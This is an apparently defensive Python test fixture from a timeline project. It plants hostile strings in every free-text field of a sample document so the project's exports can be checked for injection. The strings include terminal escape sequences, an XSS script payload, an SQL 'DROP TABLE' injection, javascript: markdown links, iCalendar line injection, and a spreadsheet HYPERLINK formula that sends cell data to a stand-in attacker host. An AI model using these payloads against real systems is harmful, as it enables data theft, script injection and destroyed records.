"""Texts that would act on a terminal, a spreadsheet, a web page or a database."""

import json
from pathlib import Path
from typing import Any

from chronology.formats.text.yamltext import parse_yaml
from tests.formats.kinds import KINDS

#: Sets the title of a terminal, clears it, turns letters red and around, hides some.
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b5m\x08\x7f\u202egnp\u2066\u200b\u2028\u061c\ufeff"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'`${1}"
SQL = "'); DROP TABLE event; --\\' OR 1=1 %s :title {x} \";"
MARKDOWN = "[x](javascript:alert(1)) ![y](https://evil.example/z) <b>|`*_#"
LINES = "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected\nb"

_SAID = frozenset((
    "title", "description", "name", "quote", "note", "locator", "author", "publisher", "reason",
    "unit", "category", "role", "quote_translation",
))  # fmt: skip


def world(evil: str) -> str:
    """Return a document in which every free text ends in ``evil``."""
    document = json.loads(json.dumps(parse_yaml(KINDS)))
    document["events"].append(
        {"key": "bare", "title": evil, "description": evil, "tags": [evil], "when": "2016"}
    )
    whole: dict[str, Any] = _spoilt(document, evil)
    whole["title"] = f"Harbour {evil}"
    return json.dumps(whole)


def _spoilt(value: Any, evil: str, key: str = "") -> Any:
    if isinstance(value, dict):
        return {
            name: part if "place" in value and name == "role" else _spoilt(part, evil, name)
            for name, part in value.items()
        }
    if isinstance(value, list):
        return [_spoilt(part, evil, key) for part in value]
    return f"{value} {evil}" if key in _SAID and isinstance(value, str) else value


def write_world(folder: Path, evil: str) -> Path:
    path = folder / "world.json"
    path.write_text(world(evil), encoding="utf-8")
    return path
